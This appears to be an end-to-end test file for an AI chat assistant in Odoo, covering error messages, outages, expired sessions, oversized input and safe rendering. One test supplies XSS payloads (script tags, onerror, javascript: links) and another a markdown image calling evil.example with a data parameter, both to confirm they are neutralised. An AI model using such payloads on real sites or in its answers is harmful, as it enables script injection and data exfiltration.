import { CONTACTS, expect, goTo, screenshot, test } from "../lib/odoo.mjs";

/** What the service does, the code on the wire, and a word of the sentence for the person. */
const ERRORS = {
    wrongKey: ["service_rejected_key", /refused the key/],
    tooMany: [/rate_limited|busy/, /moment|later|many|lot/i],
    broken: ["service_error", /error/],
    notJson: ["service_error", /./],
    cut: [/service_error|service_unreachable/, /./],
    empty: [/service_error/, /./],
};

for (const [mode, [code, text]] of Object.entries(ERRORS)) {
    test(`${mode}: one clear sentence, the question stays, and trying again helps`, async ({ page, assistant, service }) => {
        service.mode = mode;
        await goTo(page, ...CONTACTS);
        await assistant.openAnew();
        await assistant.ask("Will this work?");
        await expect(assistant.error).toHaveAttribute("data-code", code);
        await expect(assistant.error).toContainText(text);
        await expect(assistant.error).toHaveRole("alert");
        await expect(assistant.error).not.toContainText(/scripted|Traceback|Error:|http/);
        await expect(assistant.questions.last()).toHaveText(/Will this work\?/);
        if (mode === "broken") {
            await screenshot(page, "error");
        }
        service.mode = "good";
        await assistant.retry.click();
        await expect(assistant.answers.last()).toContainText("All is well.");
        await assistant.expectAnswer();
        await expect(assistant.error).toHaveCount(0);
        await expect(assistant.questions).toHaveCount(1);
    });
}

test("a service that is down is told, and the question can be asked again", async ({ page, assistant, service, settings }) => {
    await service.stop();
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await assistant.ask("Is anybody there?");
    await expect(assistant.error).toHaveAttribute("data-code", "service_unreachable");
    await expect(assistant.questions.last()).toHaveText(/Is anybody there\?/);
    await expect(assistant.retry).toBeVisible();
    expect(settings).toBeTruthy();
});

test("a whole answer instead of a stream is shown all the same", async ({ page, assistant, service }) => {
    service.mode = "whole";
    service.text = "In one piece.";
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await assistant.ask("Whole?");
    await expect(await assistant.expectAnswer()).toContainText("In one piece.");
});

test("where no service is set up, the person is told so and shown the settings", async ({ page, assistant, settings }) => {
    await settings.write({ url: "" });
    await goTo(page, ...CONTACTS);
    await assistant.open();
    await assistant.newChat.click();
    await expect(page.getByTestId("not-configured")).toBeVisible();
    await assistant.ask("Anyone?");
    await expect(assistant.error).toHaveAttribute("data-code", "not_configured");
});

test("an expired session asks to log in, and the question is kept", async ({ page, assistant, service, context }) => {
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await context.clearCookies({ name: "session_id" });
    await assistant.ask("Am I still here?");
    await expect(assistant.error).toHaveAttribute("data-code", "unauthenticated");
    const kept = await page.evaluate(() => {
        const root = document.querySelector("ai-agent-chat").shadowRoot;
        return root.textContent + root.querySelector("textarea").value;
    });
    expect(kept).toContain("Am I still here?");
    await page.getByTestId("login").click();
    await expect(page).toHaveURL(/\/web\/login\?redirect=/);
    expect(service.asked).toHaveLength(0);
});

test("HTML and script in question and answer are text", async ({ page, assistant, service }) => {
    const hostile = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
    service.text = `${hostile}\n\n[click](javascript:window.hacked=1) <b onclick="window.hacked=1">bold</b>`;
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await assistant.ask(hostile);
    const answer = await assistant.expectAnswer();
    await expect(assistant.questions.last()).toContainText("<script>");
    await expect(answer).toContainText("click");
    for (const link of await answer.locator("a, [role=link], button", { hasText: "click" }).all()) {
        await link.click();
    }
    const root = assistant.element;
    await expect(root.locator("script, img, [onclick], [onerror], [href^='javascript']")).toHaveCount(0);
    expect(await page.evaluate(() => window.hacked)).toBe(undefined);
});

test("a remote image is not fetched", async ({ page, assistant, service }) => {
    const asked = [];
    await page.route("**/stolen.png**", (route) => {
        asked.push(route.request().url());
        return route.abort();
    });
    service.text = "![secret](https://evil.example/stolen.png?data=1) The end.";
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await assistant.ask("Show me");
    await expect(await assistant.expectAnswer()).toContainText("The end.");
    expect(asked).toEqual([]);
});

test("200 KB at once are refused in one sentence, and nothing is lost", async ({ page, assistant, service }) => {
    const long = "0123456789".repeat(20_000);
    await goTo(page, ...CONTACTS);
    await assistant.openAnew();
    await assistant.ask(long);
    await expect(assistant.error).toHaveAttribute("data-code", "too_large");
    const kept = await page.evaluate(() => {
        const root = document.querySelector("ai-agent-chat").shadowRoot;
        return root.textContent.length + root.querySelector("textarea").value.length;
    });
    expect(kept).toBeGreaterThanOrEqual(long.length);
    expect(service.asked).toHaveLength(0);
    await assistant.ask("Shorter");
    await assistant.expectAnswer();
});
